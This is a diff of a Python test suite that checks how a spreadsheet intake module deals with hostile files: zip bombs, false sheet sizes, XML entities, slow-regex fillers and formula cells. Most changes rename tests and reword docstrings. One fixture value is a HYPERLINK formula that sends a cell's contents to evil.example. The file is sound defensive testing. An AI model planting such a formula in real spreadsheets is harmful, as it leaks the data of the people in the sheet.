@@ -1,4 +1,4 @@
-"""Whatever a sheet holds: it is refused in plain words, or every row of it is accounted for and inert."""
+"""Every hostile sheet is refused in plain words, or every row of it is accounted for and inert."""
 
 import io
 import subprocess
@@ -14,7 +14,7 @@ from ok_match.intake.files.extent import largest_sheet
 
 from . import hostile
 
-#: An allocation that fails ends the process, so this one is read in another.
+#: A failed allocation ends the process, so this sheet is read in another process.
 APART = "last-cell-of-the-sheet.xlsx"
 
 
@@ -27,7 +27,7 @@ def read(name: str) -> Intake:
 
 
 def kept(intake: Intake) -> Iterator[str]:
-    """Give every text that an intake keeps of people."""
+    """Every text about people that an intake keeps."""
     for person in intake.participants:
         yield from (person.name, person.organisation, person.industry, person.email)
         yield from (statement.text for statement in person.statements)
@@ -35,11 +35,11 @@ def kept(intake: Intake) -> Iterator[str]:
     yield from (text for problem in intake.problems for text in (problem.message, problem.value))
 
 
-def test_every_file_has_its_story() -> None:
-    assert {path.name for path in hostile.FOLDER.iterdir()} == set(hostile.STORIES)
+def test_every_file_has_its_description() -> None:
+    assert {path.name for path in hostile.FOLDER.iterdir()} == set(hostile.DESCRIPTIONS)
 
 
-@pytest.mark.parametrize("name", sorted({*hostile.STORIES, *hostile.MADE} - {APART}))
+@pytest.mark.parametrize("name", sorted({*hostile.DESCRIPTIONS, *hostile.MADE} - {APART}))
 def test_a_hostile_sheet_is_refused_or_every_row_is_accounted_for(name: str) -> None:
     refusal: OkMatchError | None = None
     try:
@@ -73,13 +73,13 @@ def test_a_cell_in_the_last_corner_of_a_sheet_does_not_ask_for_all_memory() -> N
         (lambda: hostile.raw_workbook("<sheetData><row\tr = '9'><c r='C9'/></row></sheetData>"), 3 * 9),
     ],
 )
-def test_the_span_of_a_sheet_is_told_before_it_is_laid_out(made: object, cells: int) -> None:
+def test_the_size_of_a_sheet_is_known_before_it_is_laid_out(made: object, cells: int) -> None:
     with zipfile.ZipFile(io.BytesIO(made())) as archive:  # type: ignore[operator]
         assert largest_sheet(archive) == cells
 
 
 @pytest.mark.parametrize("filler", hostile.FILLERS)
-def test_no_pattern_loses_itself_in_a_long_answer(filler: str) -> None:
+def test_no_pattern_hangs_on_a_long_answer(filler: str) -> None:
     assert check(Sheet("sheet.csv", hostile.long_cells(filler))).rows.data == 2
 
 
@@ -93,12 +93,12 @@ def test_an_entity_is_never_followed(name: str) -> None:
 
 
 @pytest.mark.parametrize("name", ["zip-bomb.xlsx", "zip-bomb-that-lies.xlsx", "locked.xlsx", "xml-spreadsheet.xls"])
-def test_what_is_no_sheet_of_answers_is_refused(name: str) -> None:
+def test_a_file_that_is_not_a_sheet_of_answers_is_refused(name: str) -> None:
     with pytest.raises(SheetError):
         read(name)
 
 
-def test_people_and_firms_may_be_called_what_computers_call_nothing() -> None:
+def test_people_and_firms_may_have_names_that_programs_read_as_missing() -> None:
     people = {person.email.split("@")[0]: person for person in read("names-that-are-no-values.csv").participants}
     names = {short: (person.name, person.organisation, person.industry) for short, person in people.items()}
     assert names == {
@@ -110,7 +110,7 @@ def test_people_and_firms_may_be_called_what_computers_call_nothing() -> None:
     }
 
 
-def test_a_formula_is_kept_as_the_text_that_it_is() -> None:
+def test_a_formula_is_kept_as_text() -> None:
     people = {person.email: person for person in read("formula-cells.csv").participants}
     assert people["ana@people.example"].name == '=HYPERLINK("http://evil.example/?"&A2,"Ana")'
     assert people["bo@people.example"].name == "=1+1"
@@ -129,7 +129,7 @@ def test_the_error_of_a_formula_is_no_answer() -> None:
     assert ana.statements == ()
 
 
-def test_an_address_with_a_letter_that_nobody_sees_is_the_same_address() -> None:
+def test_an_address_with_an_invisible_character_is_the_same_address() -> None:
     rows = read("mirrored-and-hidden-text.csv").rows
     assert (rows.people, rows.merged) == (2, 1)
 
@@ -138,16 +138,16 @@ def test_the_line_that_tells_excel_the_separator_is_no_header() -> None:
     assert {person.name for person in read("separator-line.csv").participants} == {"Ana Roe", "Bo Lund"}
 
 
-def test_a_sheet_that_says_it_is_huge_is_read_as_large_as_it_is() -> None:
+def test_a_sheet_that_claims_to_be_huge_is_read_at_its_real_size() -> None:
     assert read("false-dimension.xlsx").rows.people == 1
 
 
-def test_an_answer_with_many_commas_is_one_cell_and_no_row() -> None:
-    said = "Bread, rolls, buns, cakes, pies, tarts, scones, biscuits, and all of it before six."
-    rows = [[*hostile.ANA[:4], said, *hostile.ANA[5:]], ["bo@people.example", "Bo Lund", *hostile.ANA[2:]]]
+def test_an_answer_with_many_commas_is_one_cell() -> None:
+    answer = "Bread, rolls, buns, cakes, pies, tarts, scones, biscuits, and all of it before six."
+    rows = [[*hostile.ANA[:4], answer, *hostile.ANA[5:]], ["bo@people.example", "Bo Lund", *hostile.ANA[2:]]]
     intake = check(Sheet("sheet.csv", hostile.sheet_of(rows)))
     assert {person.name: person.statements[0].text for person in intake.participants} == {
-        "Ana Roe": said,
+        "Ana Roe": answer,
         "Bo Lund": hostile.ANA[4],
     }
 
